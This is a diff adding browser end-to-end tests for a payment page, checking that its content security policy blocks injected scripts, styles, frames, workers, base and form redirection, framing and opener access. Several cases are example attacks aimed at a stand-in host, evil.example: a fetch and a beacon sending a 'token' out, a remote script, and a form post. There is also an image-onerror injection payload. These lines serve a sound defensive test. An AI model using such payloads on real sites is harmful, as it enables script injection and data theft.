@@ -1,0 +1,243 @@
+import type { Page } from "@playwright/test";
+import { expect, test } from "../../fixtures/fixtures.ts";
+import { mockedLink } from "../../mockGateway/mockedLink.ts";
+import { newPayment } from "../../mockGateway/mockedOrder.ts";
+
+/** What somebody who got a foot into the page would try, and the directive that stops it. */
+const breaches: readonly {
+  readonly what: string;
+  readonly directive: string;
+  readonly act: (page: Page) => Promise<unknown>;
+}[] = [
+  {
+    what: "a script written into the page",
+    directive: "require-trusted-types-for",
+    act: (page) =>
+      page.evaluate(() => {
+        const script = document.createElement("script");
+        script.append("document.title = 'broken'");
+        document.head.append(script);
+      }),
+  },
+  {
+    what: "a script of another origin",
+    directive: "require-trusted-types-for",
+    act: (page) =>
+      page.evaluate(() => {
+        document.createElement("script").src = "https://evil.example/x.js";
+      }),
+  },
+  {
+    what: "markup made of a text",
+    directive: "require-trusted-types-for",
+    act: (page) =>
+      page.evaluate(() => {
+        document.createElement("div").innerHTML = "<img src=x onerror=\"document.title='broken'\">";
+      }),
+  },
+  {
+    what: "a policy that would let texts be markup",
+    directive: "trusted-types",
+    act: (page) =>
+      page.evaluate(() => {
+        const types: unknown = Reflect.get(globalThis, "trustedTypes");
+        const make: unknown = Reflect.get(Object(types), "createPolicy");
+        if (typeof make === "function") Reflect.apply(make, types, ["own", {}]);
+      }),
+  },
+  {
+    what: "a text that is run",
+    directive: "require-trusted-types-for",
+    act: (page) =>
+      page.evaluate(() => {
+        // oxlint-disable-next-line typescript/no-implied-eval, no-implied-eval -- this is what the test is about
+        setTimeout("document.title = 'broken'");
+      }),
+  },
+  {
+    what: "an event handler in an attribute",
+    directive: "require-trusted-types-for",
+    act: (page) =>
+      page.evaluate(() => {
+        const button = document.createElement("button");
+        button.setAttribute("onclick", "document.title = 'broken'");
+        document.body.append(button);
+        button.click();
+      }),
+  },
+  {
+    what: "a style in an attribute",
+    directive: "style-src-attr",
+    act: (page) =>
+      page.evaluate(() => {
+        document.body.setAttribute("style", "outline: 7px solid red");
+      }),
+  },
+  {
+    what: "a style written into the page",
+    directive: "style-src-elem",
+    act: (page) =>
+      page.evaluate(() => {
+        const style = document.createElement("style");
+        style.append("body { outline: 7px solid red }");
+        document.head.append(style);
+      }),
+  },
+  {
+    what: "a call to another origin",
+    directive: "connect-src",
+    act: (page) => page.evaluate(() => fetch("https://evil.example/?token").catch(() => undefined)),
+  },
+  {
+    what: "a beacon",
+    directive: "connect-src",
+    act: (page) => page.evaluate(() => navigator.sendBeacon("https://evil.example/", "token")),
+  },
+  {
+    what: "a picture of another origin",
+    directive: "img-src",
+    act: (page) =>
+      page.evaluate(() => {
+        new Image().src = "https://evil.example/pixel.png";
+      }),
+  },
+  {
+    what: "a frame",
+    directive: "frame-src",
+    act: (page) =>
+      page.evaluate(() => {
+        const frame = document.createElement("iframe");
+        frame.src = "https://evil.example/";
+        document.body.append(frame);
+      }),
+  },
+  {
+    what: "an object",
+    directive: "require-trusted-types-for",
+    act: (page) =>
+      page.evaluate(() => {
+        const object = document.createElement("object");
+        object.data = "https://evil.example/x.pdf";
+        document.body.append(object);
+      }),
+  },
+  {
+    what: "another base for addresses",
+    directive: "base-uri",
+    act: (page) =>
+      page.evaluate(() => {
+        const base = document.createElement("base");
+        base.href = "https://evil.example/";
+        document.head.append(base);
+      }),
+  },
+  {
+    what: "a worker",
+    directive: "require-trusted-types-for",
+    act: (page) =>
+      page.evaluate(() => {
+        const address = URL.createObjectURL(new Blob(["postMessage(1)"]));
+        try {
+          // oxlint-disable-next-line no-new
+          new Worker(address);
+        } catch {
+          // Some are refused with a word.
+        }
+      }),
+  },
+  {
+    what: "a form that is sent elsewhere",
+    directive: "form-action",
+    act: (page) =>
+      page.evaluate(() => {
+        const form = document.createElement("form");
+        form.action = "https://evil.example/";
+        document.body.append(form);
+        form.submit();
+      }),
+  },
+];
+
+test("whatever would run, load or send something else is stopped, and fails the test in which it is tried", async ({
+  customer,
+  faults,
+  gateway,
+  page,
+  webApp,
+}) => {
+  gateway.paymentPages(newPayment.offlineJpy().mock);
+  await customer.openLink(mockedLink(webApp.origin));
+  await expect(customer.button("Continue")).toBeVisible();
+  const left: string[] = [];
+  page.on("requestfinished", (request) => left.push(request.url()));
+  for (const { what, directive, act } of breaches) {
+    expect(faults.found, `before ${what}`).toEqual([]);
+    await act(page).catch(() => undefined);
+    const breach = `the page's policy was broken: ${directive} `;
+    await expect.poll(() => faults.found.join("\n"), what).toContain(breach);
+    const { title, outline } = await page.evaluate(() => ({
+      title: document.title,
+      outline: getComputedStyle(document.body).outlineWidth,
+    }));
+    expect(title, what).not.toContain("broken");
+    expect(outline, what).not.toBe("7px");
+    faults.forgive(/policy|Trusted(HTML|Script|ScriptURL)|evil\.example/i);
+  }
+  expect(new URL(page.url()).origin).toBe(webApp.origin);
+  expect(left.filter((url) => url.includes("evil.example"))).toEqual([]);
+});
+
+test("the page may not be framed", async ({ page, webApp }) => {
+  await page.goto("https://shop.example/");
+  await page.evaluate((address) => {
+    const framing = document.createElement("iframe");
+    framing.src = address;
+    document.body.append(framing);
+  }, `${webApp.origin}/status`);
+  const framed = () => page.frames()[1];
+  await expect.poll(() => framed()?.url()).toMatch(/^chrome-error:/);
+  const frame = framed();
+  expect(await frame?.evaluate(() => document.querySelector("#root"))).toBeNull();
+});
+
+test("who opens the page in a window of its own is told when it is closed, reads nothing of it, and leads it nowhere", async ({
+  context,
+  faults,
+  page,
+  gateway,
+  webApp,
+}) => {
+  gateway.paymentPages(newPayment.offlineJpy().mock);
+  await page.goto("https://shop.example/");
+  const opened = context.waitForEvent("page");
+  await page.evaluate((address) => {
+    Reflect.set(globalThis, "opened", open(address));
+  }, mockedLink(webApp.origin));
+  const payment = await opened;
+  await expect(payment.getByRole("heading", { level: 1 })).toBeVisible();
+  const look = () =>
+    page.evaluate(() => {
+      const held: Window = Reflect.get(globalThis, "opened");
+      const seen = { closed: held.closed, frames: held.length };
+      try {
+        return { ...seen, isRead: held.document.title.length >= 0 };
+      } catch {
+        return { ...seen, isRead: false };
+      }
+    });
+  expect(await look()).toEqual({ closed: false, frames: 0, isRead: false });
+  expect(await payment.evaluate(() => opener), "nor has it a hold on the shop's").toBeNull();
+  const before = payment.url();
+  const leading = page.evaluate(() => {
+    const held: Window = Reflect.get(globalThis, "opened");
+    held.location.replace("https://shop.example/elsewhere");
+  });
+  await expect(leading, "nor is it led elsewhere").rejects.toThrow("does not have permission");
+  // Chromium says so in the console too.
+  const refusal = /Unsafe attempt to initiate navigation/;
+  await expect.poll(() => faults.found.join("\n")).toMatch(refusal);
+  faults.forgive(refusal);
+  expect(payment.url()).toBe(before);
+  await payment.close();
+  await expect.poll(async () => (await look()).closed).toBe(true);
+});
